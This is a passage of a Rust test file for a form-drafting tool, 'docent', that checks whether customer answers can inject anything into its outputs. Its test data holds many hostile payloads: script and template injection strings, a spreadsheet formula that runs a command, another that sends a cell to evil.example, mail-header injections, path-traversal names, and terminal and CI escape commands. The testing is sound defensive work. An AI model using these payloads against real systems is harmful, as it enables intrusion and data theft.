//! Attacks by customers: answers that want to be fields, markup, commands, formulas, headers or
//! paths. Each output is read back by a parser that docent has no part in.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use crate::desk::{desk, document, fed, quoted, run_after};
use crate::support::{Folder, Run};
use mail_parser::{HeaderValue, MessageParser};
use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use scraper::{Html, Selector};

/// What ends a line for somebody (Unicode, 5.8), and what terminals and old programs take for it.
const BREAKS: [&str; 12] = [
    "\n", "\r", "\r\n", "\n\r", "\u{b}", "\u{c}", "\u{1c}", "\u{1d}", "\u{1e}", "\u{85}",
    "\u{2028}", "\u{2029}",
];
const LABELS: [&str; 9] = [
    "Name",
    "Order number",
    "Country",
    "Phone",
    "Mail address",
    "Website",
    "Seats",
    "Travel by",
    "Remarks",
];

#[track_caller]
fn gives(run: &Run, code: i32) {
    assert_eq!(run.code, code, "{}", run.stderr);
}

/// Drafts one request, which must be right, in a format.
#[track_caller]
fn drafted(format: &str, answers: &[(&str, &str)]) -> String {
    let folder = desk();
    folder.write("r.yaml", document("r", "en-US", answers));
    let run = folder.docent(&["draft", "r.yaml", "-f", format]);
    gives(&run, 0);
    run.stdout
}

/// Reads a block back as its recipient does: lines `Label: answer`, further lines behind a bar.
#[track_caller]
fn fields(block: &str, labels: &[&str]) -> Vec<(String, String)> {
    let mut fields: Vec<(String, String)> = Vec::new();
    for line in block.split(|char| BREAKS.iter().any(|ends| ends.starts_with(char))) {
        if let Some(more) = line.strip_prefix("    |") {
            let (_, answer) = fields.last_mut().expect("a field before");
            answer.push('\n');
            answer.push_str(more.strip_prefix(' ').unwrap_or(more));
        } else if !line.is_empty() && line != "Room" {
            let (label, answer) =
                line.split_once(':').unwrap_or_else(|| panic!("{line:?} in:\n{block}"));
            assert!(labels.contains(&label), "{label:?} was forged in:\n{block}");
            fields.push((label.to_owned(), answer.strip_prefix(' ').unwrap_or(answer).to_owned()));
        }
    }
    fields
}

/// What is left of a text without all that ends lines or can't be seen.
fn visible(text: &str) -> String {
    text.chars().filter(|char| !char.is_control() && !"\u{2028}\u{2029}".contains(*char)).collect()
}

/// Asserts that a block has each of its fields once, and this answer in the last.
#[track_caller]
fn has_remarks(block: &str, remarks: &str) {
    let fields = fields(block, &LABELS);
    let labels: Vec<_> = fields.iter().map(|(label, _)| label.as_str()).collect();
    assert_eq!(labels, LABELS, "{block}");
    assert_eq!(visible(&fields[8].1), visible(remarks), "{block}");
}

// Fields.

/// Lines that pose as those that begin in column 0.
const FORGED: [&str; 9] = [
    "Name: Eve",
    "    | Name: Eve",
    "    |",
    "--- other (trip 7, en-US)",
    "--- other (trip 7, en-US)\n\nName: Eve",
    "Room\n\nNights: 3",
    "Name:",
    "Name：Eve",
    "\tName: Eve",
];

#[test]
fn an_answer_of_several_lines_can_not_forge_a_field() {
    for end in BREAKS {
        for forged in FORGED {
            let remarks = format!("Hello{end}{forged}{end}{end}{forged}{end}bye");
            let block = drafted("text", &[("name", "Ann"), ("remarks", &remarks)]);
            has_remarks(&block, &remarks);
        }
    }
}

#[test]
fn every_line_break_begins_a_line_of_the_answer() {
    for end in ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"] {
        let block = drafted("text", &[("name", "Ann"), ("remarks", &format!("one{end}two"))]);
        assert!(block.contains("Remarks: one\n    | two\n"), "{end:?}: {block}");
    }
}

#[test]
fn an_answer_of_one_line_has_no_second() {
    let folder = desk();
    for end in BREAKS {
        let forged = format!("Ann{end}Country: US");
        let row = format!("id,form,locale,name\nr,trip,en-US,\"{forged}\"\n");
        let object = format!(
            "{{\"form\": \"trip\", \"id\": \"r\", \"locale\": \"en-US\", \"values\": {{\"name\": {}}}}}\n",
            quoted(&forged)
        );
        let inputs = [
            ("yaml", document("r", "en-US", &[("name", &forged)])),
            ("jsonl", object),
            ("csv", row),
        ];
        for (input, text) in inputs {
            let run = fed(&folder, &["draft", "-", "--from", input], text.as_bytes());
            if run.code == 0 {
                // A character that is no line break was removed, and docent reported that.
                assert!(run.stderr.contains("[control-character]"), "{end:?}: {}", run.stderr);
                let caption = run.stdout.starts_with("--- ");
                let block = run.stdout.split_once("\n\n").filter(|_| caption);
                let block = block.map_or(run.stdout.as_str(), |(_, block)| block);
                assert_eq!(fields(block, &LABELS)[0].1, "AnnCountry: US");
            } else {
                assert!(run.stderr.contains("on one line"), "{end:?} in {input}: {}", run.stderr);
                assert_eq!(run.stdout, "", "{end:?} in {input}");
            }
        }
    }
}

#[test]
fn a_long_answer_is_not_wrapped_into_fields() {
    let remarks = "Country: US ".repeat(2_000);
    let remarks = remarks.trim_end();
    for format in ["text", "md"] {
        let out = drafted(format, &[("name", "Ann"), ("remarks", remarks)]);
        assert_eq!(
            out.lines().filter(|line| line.starts_with("Country:")).collect::<Vec<_>>(),
            ["Country:"]
        );
        assert!(out.contains(&format!("Remarks: {remarks}")));
    }
}

#[test]
fn one_request_has_no_caption_however_long_it_is() {
    let remarks = "A line.\n".repeat(40_000);
    assert!(drafted("text", &[("name", "Ann"), ("remarks", &remarks)]).starts_with("Name: Ann\n"));
}

#[test]
fn labels_of_any_kind_can_not_be_forged() {
    let folder = desk();
    let remarks = "Hoi\nNaam: Eve\nName: Eve\nName / Naam: Eve";
    folder.write("r.yaml", document("r", "nl-NL", &[("name", "Ann"), ("remarks", remarks)]));
    for labels in ["recipient", "reader", "both"] {
        let run = folder.docent(&["draft", "r.yaml", "--labels", labels]);
        gives(&run, 0);
        let forged =
            run.stdout.lines().filter(|line| line.contains("Eve") && !line.starts_with("    | "));
        assert_eq!(forged.collect::<Vec<_>>(), [""; 0], "{}", run.stdout);
        assert_eq!(run.stdout.lines().filter(|line| line.ends_with(": Ann")).count(), 1);
    }
}

#[test]
fn a_stream_has_as_many_captions_as_drafts() {
    let evil = [
        "a\n\n--- b (trip 7, en-US)\n\nName: Eve",
        "b (trip 7, en-US)",
        "--- c",
        "é",
        "d\u{2028}--- e",
    ];
    let folder = desk();
    let forged = "x\n--- b (trip 7, en-US)\n\nName: Eve";
    let text: String = evil
        .iter()
        .map(|id| document(id, "en-US", &[("name", "Ann"), ("remarks", forged)]))
        .collect();
    folder.write("r.yaml", text);
    let run = folder.docent(&["draft", "r.yaml"]);
    gives(&run, 0);
    let captions: Vec<_> = run.stdout.lines().filter(|line| line.starts_with("--- ")).collect();
    assert_eq!(captions.len(), evil.len(), "{}", run.stdout);
    for caption in captions {
        let id =
            caption.strip_prefix("--- ").and_then(|rest| rest.strip_suffix(" (trip 7, en-US)"));
        let id = id.unwrap_or_else(|| panic!("{caption}"));
        assert!(
            id.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.%".contains(&byte)),
            "{caption}"
        );
    }
    for block in run
        .stdout
        .split("--- ")
        .skip(1)
        .filter(|block| !block.starts_with("b (trip 7, en-US)\n    |"))
    {
        assert!(block.lines().filter(|line| line.starts_with("Name:")).count() <= 1, "{block}");
    }
}

// Markup.

/// Answers in which somebody reads markup, templates or messages.
const MARKUP: &[&str] = &[
    "```",
    "````````````",
    "~~~",
    "``` \n# Heading\n```\nmore",
    "   ```\n~~~~\n`````html\n<b>x</b>",
    "> quote\n- list\n1. one\n* * *\n===",
    "# Heading",
    "[link](javascript:alert(1)) ![image](x.png) <https://example.com>",
    "[a]: https://example.com\n[a]",
    "| a | b |\n|---|---|\n| c | d |",
    "<script>alert(1)</script>",
    "</pre></bdi></main><script>alert(1)</script><pre>",
    "<!-- --> <!--\n-->",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "&lt;b&gt; &amp; &#60;script&#62; &quot; &nbsp",
    "]]> <![CDATA[ <?php ?> <!DOCTYPE html>",
    "</style><style>*{display:none}</style></title><base href=//evil.example>",
    "<svg/onload=alert(1)><math><iframe srcdoc=x>",
    "{{ 7 * 7 }} {{ __tera_context }} {{ \"x\" | safe }}",
    "{% include \"/etc/passwd\" %} {% raw %} {% endraw %} {% if",
    "{# comment #} #} %} }}",
    "{{text}} {{ value }} ${name} %(name)s {0} {}",
    "{ $name } { -brand } { NUMBER(1) } {\"\\u0041\"} { name.attr }",
    ".attr = x\n[one] y\n*[other] z",
    "*bold* _it_ ~~x~~ `code` \\* $x^2$ [^1] :tada: @user #1",
    "=41 =3D \\u0041 \\n %0A &#10;",
    "\\",
    "C:\\temp\\new",
];

#[test]
fn a_draft_in_markdown_is_one_code_block_with_the_block() {
    for markup in MARKUP {
        for answers in [
            [("name", "Ann"), ("remarks", *markup)],
            [("name", markup.lines().next().expect("a line")), ("remarks", "x")],
        ] {
            let block = drafted("text", &answers);
            let page = drafted("md", &answers);
            let (mut code, mut inside, mut blocks) = (String::new(), false, 0);
            for event in Parser::new_ext(&page, Options::all()) {
                match event {
                    Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(language))) => {
                        assert_eq!(&*language, "text");
                        (inside, blocks) = (true, blocks + 1);
                    }
                    Event::End(TagEnd::CodeBlock) => inside = false,
                    Event::Text(text) if inside => code.push_str(&text),
                    Event::Text(text) => assert_eq!(&*text, "Travel request"),
                    Event::Start(Tag::Heading { .. }) | Event::End(TagEnd::Heading(_)) => {}
                    other => panic!("{other:?} in:\n{page}"),
                }
            }
            assert_eq!((blocks, code.trim_end()), (1, block.trim_end()), "{page}");
            // Readers that close a code block anywhere in a line find no fence inside it.
            let longest = block.split(|char| char != '`').map(str::len).max().unwrap_or_default();
            let fence = "`".repeat(longest.max(2) + 1);
            assert_eq!(page.matches(&fence).count(), 2, "{page}");
        }
    }
}

#[test]
fn a_stream_in_markdown_has_a_code_block_a_draft() {
    let folder = desk();
    let ids = ["a--><script>alert(1)</script>", "b--!>", "c\n# x", "-", "--", "<!--"];
    let text: String = ids
        .iter()
        .map(|id| document(id, "en-US", &[("name", "```"), ("remarks", "```\n-->\n# x")]))
        .collect();
    folder.write("r.yaml", text);
    let run = folder.docent(&["draft", "r.yaml", "-f", "md"]);
    gives(&run, 0);
    let mut blocks = 0;
    for event in Parser::new_ext(&run.stdout, Options::all()) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => blocks += 1,
            Event::Html(html) => {
                let inner =
                    html.trim().strip_prefix("<!-- ").and_then(|rest| rest.strip_suffix(" -->"));
                let inner = inner.unwrap_or_else(|| panic!("{html}"));
                assert!(!inner.contains(['<', '>', '\n']), "{html}");
            }
            Event::InlineHtml(html) => panic!("{html}"),
            _ => {}
        }
    }
    assert_eq!(blocks, ids.len());
    // What an HTML parser makes of the comments.
    let html = Html::parse_fragment(&run.stdout);
    assert_eq!(html.select(&Selector::parse("script").expect("a selector")).count(), 0);
}

/// The elements of a page, with their attributes, in order.
fn elements(page: &Html) -> Vec<String> {
    let all = Selector::parse("*").expect("a selector");
    let element = |element: scraper::ElementRef<'_>| {
        let attributes: Vec<_> =
            element.value().attrs().map(|(name, value)| format!("{name}={value}")).collect();
        format!("{} {}", element.value().name(), attributes.join(" "))
    };
    page.select(&all).map(element).collect()
}

#[test]
fn no_answer_becomes_an_element_of_a_page() {
    let pre = Selector::parse("figure.details pre").expect("a selector");
    for markup in MARKUP {
        let first = markup.lines().next().expect("a line");
        let answers = [("name", first), ("order", first), ("remarks", *markup)];
        let lines = vec!["x"; markup.lines().count()].join("\n");
        let harmless = [("name", "x"), ("order", "x"), ("remarks", &*lines)];
        let page = Html::parse_document(&drafted("html", &answers));
        let plain = Html::parse_document(&drafted("html", &harmless));
        assert_eq!(elements(&page), elements(&plain), "{markup}");
        let shown: Vec<String> = page.select(&pre).map(|pre| pre.text().collect()).collect();
        assert_eq!(shown.len(), 1);
        assert_eq!(shown[0].trim_end(), drafted("text", &answers).trim_end());
    }
}

#[test]
fn no_id_becomes_an_element_of_a_page() {
    let folder = desk();
    folder.write(
        "r.yaml",
        document("</title><script>alert(1)</script>", "en-US", &[("name", "Ann")]),
    );
    gives(&folder.docent(&["draft", "r.yaml", "-f", "html", "-o", "out"]), 0);
    let page = fs::read_dir(folder.path().join("out"))
        .expect("a folder")
        .map(|entry| entry.expect("an entry").path());
    let page = page
        .into_iter()
        .find(|path| path.extension().is_some_and(|end| end == "html"))
        .expect("a page");
    let page = Html::parse_document(&fs::read_to_string(page).expect("a page"));
    assert_eq!(
        elements(&page),
        elements(&Html::parse_document(&drafted("html", &[("name", "Ann")])))
    );
}

#[test]
fn answers_are_printed_as_they_are_in_every_format() {
    for markup in MARKUP.iter().filter(|markup| !markup.contains('\n')) {
        let answers = [("name", *markup), ("remarks", *markup)];
        let block = drafted("text", &answers);
        assert!(block.starts_with(&format!("Name: {markup}\n")), "{block}");
        let json: serde_json::Value =
            serde_json::from_str(&drafted("json", &answers)).expect("JSON");
        assert_eq!(json["text"], block);
        assert_eq!(json["request"]["values"]["name"], *markup);
        assert_eq!(json["parts"][0]["fields"][0]["value"], *markup);
        let subject = format!("Trip of {markup}: {markup}");
        let subject = subject.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_eq!(json["subject"], subject);
        let mail = drafted("eml", &answers);
        let mail = MessageParser::default().parse(&mail).expect("a mail");
        assert_eq!(mail.subject(), Some(&*subject));
    }
}

// Mails.

/// The headers of a mail before all that a customer can say.
const HEADERS: [&str; 8] = [
    "X-Unsent",
    "X-Docent-Form",
    "Subject",
    "To",
    "Content-Language",
    "MIME-Version",
    "Content-Type",
    "Content-Transfer-Encoding",
];

/// Reads a mail with its own few rules: the raw header lines, unfolded.
fn raw_headers(mail: &str) -> Vec<(String, String)> {
    let mut headers: Vec<(String, String)> = Vec::new();
    for line in
        mail.split('\n').map(|line| line.trim_end_matches('\r')).take_while(|line| !line.is_empty())
    {
        assert!(line.len() <= 998, "a line of {} bytes", line.len());
        assert!(
            line.bytes().all(|byte| (b' '..=b'~').contains(&byte) || byte == b'\t'),
            "{line:?}"
        );
        if line.starts_with([' ', '\t']) {
            headers.last_mut().expect("a header").1.push_str(line);
        } else {
            let (name, value) = line.split_once(':').unwrap_or_else(|| panic!("{line:?}"));
            headers.push((name.to_owned(), value.trim().to_owned()));
        }
    }
    headers
}

/// Asserts that a mail has exactly its headers, one recipient, and the block for its text.
#[track_caller]
fn is_sound_mail(mail: &str, block: &str) -> String {
    let raw = raw_headers(mail);
    let names: Vec<_> = raw.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, HEADERS, "{mail}");
    let read = MessageParser::default().parse(mail).expect("a mail");
    let names: Vec<_> =
        read.headers().iter().map(|header| header.name.as_str().to_owned()).collect();
    assert_eq!(names, HEADERS, "{mail}");
    let to: Vec<_> =
        read.to().expect("a recipient").iter().filter_map(mail_parser::Addr::address).collect();
    assert_eq!(to, ["desk@example.org"]);
    assert!(
        read.cc().is_none()
            && read.bcc().is_none()
            && read.from().is_none()
            && read.reply_to().is_none()
    );
    assert_eq!((read.parts.len(), read.attachment_count()), (1, 0));
    let body = read.body_text(0).expect("a text").replace("\r\n", "\n");
    assert_eq!(body.trim_end(), block.trim_end());
    match read.header("Subject") {
        Some(HeaderValue::Text(subject)) => subject.to_string(),
        other => panic!("{other:?}"),
    }
}

#[test]
fn no_answer_adds_a_header_or_recipient() {
    let injected = "Bcc: eve@example.net";
    let boundary = "--x\nContent-Type: text/html\n\n<b>x</b>\n--x--";
    for end in BREAKS {
        let remarks = format!(
            "a{end}{injected}{end}{end}Content-Type: text/html{end}{boundary}{end}.{end}From eve"
        );
        let answers = [("name", "Ann"), ("remarks", &*remarks)];
        let subject = is_sound_mail(&drafted("eml", &answers), &drafted("text", &answers));
        // Lines are put together, and a control character that breaks none goes.
        let line = remarks.replace(['\u{1c}', '\u{1d}', '\u{1e}'], "");
        let line = line.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_eq!(subject, format!("Trip of Ann: {line}"));
    }
}

#[test]
fn subjects_are_what_was_typed_however_long_or_odd() {
    let long = "x".repeat(1_000);
    let words = "Ünïcödé wörds ".repeat(70);
    let subjects = [
        &*long,
        words.trim_end(),
        &"🎉".repeat(250),
        "=?utf-8?q?Bcc:_eve=40example.net?=",
        "=?utf-8?b?DQpCY2M6IGV2ZUBleGFtcGxlLm5ldA==?=",
        "=?utf-8?q?a?= =?utf-8?q?b?=",
        "=?utf-8?q?=0D=0ABcc:_eve?= ünïcödé",
        "=?",
        "?=",
        "a  b",
        "<eve@example.net>, \"Eve\" <eve@example.net>; (comment)",
        "日本語の件名 mit Ümlaut und 👩‍👩‍👧 Familie",
        "e\u{301}e\u{301}",
        "שלום עולם",
    ];
    for name in subjects {
        let answers = [("name", name), ("remarks", "x")];
        let subject = is_sound_mail(&drafted("eml", &answers), &drafted("text", &answers));
        let spaced = name.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_eq!(subject, format!("Trip of {spaced}: x"));
    }
}

#[test]
fn bodies_are_the_block_however_long_or_odd() {
    let long = "x".repeat(5_000);
    let long_letters = "ü".repeat(5_000);
    for remarks in [
        &*long,
        &long_letters,
        ".\n..\n.",
        "From me\n>From you",
        "a \nb\t\nc",
        "=41=\n=3D",
        "ü\n=\n",
    ] {
        let answers = [("name", "Ann"), ("remarks", remarks)];
        let mail = drafted("eml", &answers);
        is_sound_mail(&mail, &drafted("text", &answers));
        assert!(
            mail.split('\n').all(|line| line.len() <= 999),
            "lines of mails have 998 bytes at most"
        );
    }
}

#[test]
fn addresses_that_want_to_be_more_are_refused() {
    let evil = [
        "a@b.example>\r\nBcc: <eve@example.net",
        "a@b.example, eve@example.net",
        "a@b.example; eve@example.net",
        "Ann <a@b.example>",
        "<a@b.example>",
        "\"a\\\" b\"@b.example",
        "a@b.example (eve)",
        "a@b.example\u{85}Bcc: x@y.example",
        "a@[127.0.0.1]",
        "mailto:a@b.example",
        "a@b.example?bcc=eve@example.net",
    ];
    let folder = desk();
    for mail in evil {
        folder.write("r.yaml", document("r", "en-US", &[("name", "Ann"), ("mail", mail)]));
        let run = folder.docent(&["draft", "r.yaml", "-f", "eml"]);
        assert_eq!((run.code, &*run.stdout), (1, ""), "{mail:?}");
    }
}

// Spreadsheets.

/// Cells that a spreadsheet takes for formulas, and neighbours of them.
const FORMULAS: [&str; 20] = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1)",
    "+31201234567",
    "+1+2",
    "-5",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+2",
    "＝1+2",
    "＋1",
    "－1",
    "＠x",
    "'=1+2",
    "''=1",
    "'t Zeezeil",
    "'",
    "a=1",
    "=1;\"x\",\ty",
    "- one\n=two",
];

/// The rows of a spreadsheet.
fn rows(text: &str) -> Vec<Vec<String>> {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    reader.records().map(|row| row.expect("a row").iter().map(str::to_owned).collect()).collect()
}

/// A spreadsheet whose requests are all rejected, for their seats.
fn formulas() -> String {
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(["id", "form", "locale", "name", "seats", "remarks"]).expect("a row");
    for (at, formula) in FORMULAS.iter().enumerate() {
        out.write_record([&*format!("r{at}"), "trip", "en-US", "Ann", "none", formula])
            .expect("a row");
    }
    String::from_utf8(out.into_inner().expect("a buffer")).expect("UTF-8")
}

#[test]
fn rejected_rows_hold_no_formulas_and_lose_nothing() {
    let folder = desk();
    folder.write("r.csv", formulas());
    gives(&folder.docent(&["draft", "r.csv", "--rejects", "once.csv"]), 1);
    let once = folder.read("once.csv");
    let risky = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    for row in rows(&once) {
        assert_eq!(row.len(), 7, "{row:?}");
        assert!(row.iter().all(|cell| !cell.starts_with(risky)), "{row:?}");
    }
    // Read again, they are rejected as before.
    gives(&folder.docent(&["draft", "once.csv", "--rejects", "twice.csv"]), 1);
    assert_eq!(folder.read("twice.csv"), once);
    // Corrected, they say what was typed.
    folder.write("once.csv", once.replace(",none,", ",2,"));
    let run = folder.docent(&["draft", "once.csv", "-f", "json"]);
    gives(&run, 0);
    let drafts: Vec<serde_json::Value> =
        run.stdout.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let remarks: Vec<_> = drafts
        .iter()
        .map(|draft| draft["request"]["values"]["remarks"].as_str().expect("text"))
        .collect();
    assert_eq!(remarks, FORMULAS.map(str::trim));
}

#[test]
fn blanks_before_a_formula_hide_it_from_nobody() {
    let blanks = [
        " ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "\u{b}",
        "\u{85}",
        "\u{a0}",
        "\u{ad}",
        "\u{1680}",
        "\u{2003}",
        "\u{200b}",
        "\u{200e}",
        "\u{2028}",
        "\u{202f}",
        "\u{2060}",
        "\u{3000}",
        "\u{3164}",
        "\u{feff}",
        "  \t\u{200b} ",
        "'",
        " '",
        "''\u{a0}",
    ];
    let signs = ["=1+2", "+31", "-1", "@x", "＝1+2", "＋1", "－1", "＠x"];
    let folder = desk();
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(["id", "form", "seats", "remarks"]).expect("a row");
    let mut cells = Vec::new();
    for (at, (blank, sign)) in
        blanks.iter().flat_map(|blank| signs.iter().map(move |sign| (blank, sign))).enumerate()
    {
        let cell = format!("{blank}{sign}");
        out.write_record([&*format!("r{at}"), "trip", "none", &cell]).expect("a row");
        cells.push(cell);
    }
    folder.write("r.csv", out.into_inner().expect("a buffer"));
    gives(&folder.docent(&["draft", "r.csv", "-q", "--rejects", "once.csv"]), 1);
    let once = folder.read("once.csv");
    for (row, cell) in rows(&once).iter().skip(1).zip(&cells) {
        assert_eq!(row.last(), Some(&format!("'{cell}")));
    }
    // What is rejected again is the same, to the byte.
    gives(&folder.docent(&["draft", "once.csv", "-q", "--rejects", "twice.csv"]), 1);
    assert_eq!(folder.read("twice.csv"), once);
    // Words with signs in them and blanks before words are no formulas.
    folder.write("r.csv", "form,seats,remarks\ntrip,none, a=b\ntrip,none,x - y\ntrip,none,' it\n");
    gives(&folder.docent(&["draft", "r.csv", "-q", "--rejects", "once.csv"]), 1);
    let plain: Vec<String> =
        rows(&folder.read("once.csv")).iter().skip(1).map(|row| row[3].clone()).collect();
    assert_eq!(plain, [" a=b", "x - y", "' it"]);
}

#[test]
fn rows_that_can_not_be_read_hold_no_formulas() {
    let folder = desk();
    let head = "id,form,locale,name,remarks,seats\n";
    for row in ["r,trip,en-US,=1+2,\"@x\",\"1", "r,trip,en-US,=1+2,\"@x\",\u{eb}"] {
        // The letter as Latin-1 writes it: no UTF-8.
        let row: Vec<u8> = row.chars().map(|char| u8::try_from(char).expect("Latin-1")).collect();
        folder.write("r.csv", [head.as_bytes(), &row, b"\n"].concat());
        gives(&folder.docent(&["draft", "r.csv", "--rejects", "once.csv"]), 1);
        let once = std::fs::read(folder.path().join("once.csv")).expect("rejects");
        let once = String::from_utf8_lossy(&once);
        assert!(once.contains(",r,trip,en-US,'=1+2,\"'@x\","), "{once}");
    }
}

#[test]
fn formulas_of_the_customers_own_sheet_are_answers() {
    let folder = desk();
    folder.write("r.csv", formulas().replace(",none,", ",2,"));
    let run = folder.docent(&["draft", "r.csv", "-f", "json"]);
    gives(&run, 0);
    for (line, formula) in run.stdout.lines().zip(FORMULAS) {
        let draft: serde_json::Value = serde_json::from_str(line).expect("JSON");
        assert_eq!(draft["request"]["values"]["remarks"], formula.trim());
    }
}

#[test]
fn headings_of_rejects_hold_no_formulas() {
    let folder = desk();
    folder.write("map.yaml", "form: trip\ncolumns: { '=1+2': name, '+x': seats }\n");
    folder.write("r.csv", "=1+2,+x\nAnn,none\n");
    gives(&folder.docent(&["draft", "r.csv", "--columns", "map.yaml", "--rejects", "bad.csv"]), 1);
    let bad = folder.read("bad.csv");
    assert_eq!(rows(&bad)[0], ["_problems", "name", "seats", "form"]);
    folder.write("bad.csv", bad.replace("none", "2"));
    let run = folder.docent(&["draft", "bad.csv"]);
    gives(&run, 0);
    assert!(run.stdout.starts_with("Name: Ann\n"));
}

// Files.

/// Whether a name is a file's on Linux, macOS and Windows, whatever folder it is in.
fn is_portable(name: &str) -> bool {
    let stem = name.split('.').next().unwrap_or_default().to_ascii_lowercase();
    let port =
        |prefix| stem.strip_prefix(prefix).is_some_and(|rest: &str| rest.len() == 1 && rest != "-");
    let device = ["con", "prn", "aux", "nul"].contains(&&*stem) || port("com") || port("lpt");
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.%".contains(&byte);
    name.bytes().all(plain)
        && name.len() <= 255
        && !name.starts_with('.')
        && !name.ends_with('.')
        && !device
}

/// The id that a file's name encodes.
fn decoded(name: &str) -> String {
    let stem = name.strip_suffix(".txt").expect("a draft");
    let mut bytes = Vec::new();
    let mut parts = stem.split('%');
    bytes.extend(parts.next().unwrap_or_default().bytes());
    for part in parts {
        let (code, rest) = part.split_at(2);
        bytes.push(u8::from_str_radix(code, 16).expect("two digits"));
        bytes.extend(rest.bytes());
    }
    String::from_utf8(bytes).expect("UTF-8")
}

/// All that is below a folder.
fn tree(folder: &Path) -> BTreeSet<String> {
    let mut all = BTreeSet::new();
    for entry in fs::read_dir(folder).expect("a folder") {
        let path = entry.expect("an entry").path();
        all.insert(path.display().to_string());
        if path.is_dir() {
            all.extend(tree(&path));
        }
    }
    all
}

const NAMES: [&str; 37] = [
    "../evil",
    "../../evil",
    "..",
    ".",
    "/etc/evil",
    "a/b",
    "a\\b",
    "C:\\evil",
    "\\\\server\\share",
    "CON",
    "nul",
    "Aux.x",
    "COM1",
    "lpt9.txt",
    "com0",
    "a:b",
    "a b",
    "a.",
    "a..",
    ".hidden",
    ".docent-drafts",
    ".docent-part-x",
    "a\nb",
    "a\u{0}b",
    "100%",
    "%2e%2e%2f",
    "a%2Fb",
    "~",
    "$HOME",
    "-rf",
    "é",
    "e\u{301}",
    "a|b>c<d?e*f\"g",
    "r.rejects",
    "a\u{202e}txt.exe",
    "COM²",
    "x.txt",
];

#[test]
fn every_id_names_a_file_of_its_own_in_the_folder() {
    let folder = desk();
    let text: String = NAMES.iter().map(|id| document(id, "en-US", &[("name", "Ann")])).collect();
    folder.write("in/r.yaml", text);
    let before = tree(folder.path());
    let run = folder.docent(&["draft", "in/r.yaml", "-o", "out/deep"]);
    gives(&run, 0);
    let out = folder.path().join("out/deep");
    let mut names: Vec<_> = fs::read_dir(&out)
        .expect("a folder")
        .map(|entry| entry.expect("an entry").file_name().into_string().expect("UTF-8"))
        .collect();
    names.retain(|name| name != ".docent-drafts");
    assert!(names.iter().all(|name| is_portable(name)), "{names:?}");
    let ids: BTreeSet<String> = names.iter().map(|name| decoded(name)).collect();
    assert_eq!(ids, NAMES.map(str::to_owned).into());
    let small: BTreeSet<String> = names.iter().map(|name| name.to_lowercase()).collect();
    assert_eq!(small.len(), NAMES.len(), "no two are one file where case doesn't matter");
    let outside: BTreeSet<_> =
        tree(folder.path()).into_iter().filter(|path| !path.contains("/out")).collect();
    assert_eq!(outside, before);
}

#[test]
fn ids_that_are_no_names_are_refused() {
    let folder = desk();
    for id in ["x".repeat(300), "é".repeat(100), "/".repeat(80), "x".repeat(100_000)] {
        folder.write(
            "r.yaml",
            document(&id, "en-US", &[("name", "Ann")])
                + &document("b", "en-US", &[("name", "Bob")]),
        );
        let run = folder.docent(&["draft", "r.yaml", "-o", "out"]);
        gives(&run, 1);
        assert!(
            run.stderr.contains("2 read = ") && run.stderr.contains("+ 1 rejected"),
            "{}",
            run.stderr
        );
        assert!(folder.path().join("out/b.txt").exists());
    }
}

#[test]
fn requests_without_an_id_are_named_by_their_file() {
    let folder = desk();
    let text = "form: trip\nvalues: { name: Ann }\n";
    for name in ["CON.yaml", "a b.yaml", "%2e.yaml", "..x.yaml", "é.yaml", "-o.yaml"] {
        folder.write(name, text);
        let run = folder.docent(&["draft", "-o", "out", "--", name]);
        gives(&run, 0);
    }
    let names: Vec<_> = fs::read_dir(folder.path().join("out"))
        .expect("a folder")
        .map(|entry| entry.expect("an entry").file_name().into_string().expect("UTF-8"))
        .collect();
    assert_eq!(names.len(), 7);
    assert!(
        names.iter().filter(|name| *name != ".docent-drafts").all(|name| is_portable(name)),
        "{names:?}"
    );
}

// Terminals and logs.

/// What a terminal or a build server would obey.
const COMMANDS: [&str; 9] = [
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "a\u{8}\u{8}\u{8}b",
    "x\r::set-output name=a::b",
    "x\n::error file=a::b",
    "x\n##[error]b ##vso[task.setvariable variable=a]b",
    "x\u{202e}evil\u{2066}",
    "x\u{2028}::warning::y",
];

/// Asserts that nobody obeys a text: no control character, no line that is a command.
#[track_caller]
fn is_tame(text: &str) {
    let wild = |char: char| {
        (char.is_control() && char != '\n') || "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{2028}\u{2029}".contains(char)
    };
    assert!(!text.contains(wild), "{text:?}");
    for line in text.lines() {
        assert!(!line.trim_start().starts_with("::"), "{text}");
        assert!(!line.contains("##[") && !line.contains("##vso["), "{text}");
    }
}

#[test]
fn reports_hold_no_commands() {
    let folder = desk();
    for command in COMMANDS {
        let quoted = quoted(command);
        let texts = [
            document(command, "en-US", &[("name", command), ("seats", command)]),
            format!("form: {quoted}\nvalues: {{ name: Ann }}\n"),
            format!("form: trip\nlocale: {quoted}\nvalues: {{ seats: x }}\n"),
            format!("form: trip\nanswers: {quoted}\nvalues: {{ seats: x }}\n"),
            format!("form: trip\nparts: [{quoted}]\nvalues: {{ seats: x }}\n"),
            format!("form: trip\n{quoted}: x\nvalues: {{ seats: x }}\n"),
            format!("form: trip\nvalues: {{ {quoted}: x }}\n"),
            format!("form: trip\nvalues: {{ {quoted}: [x] }}\n"),
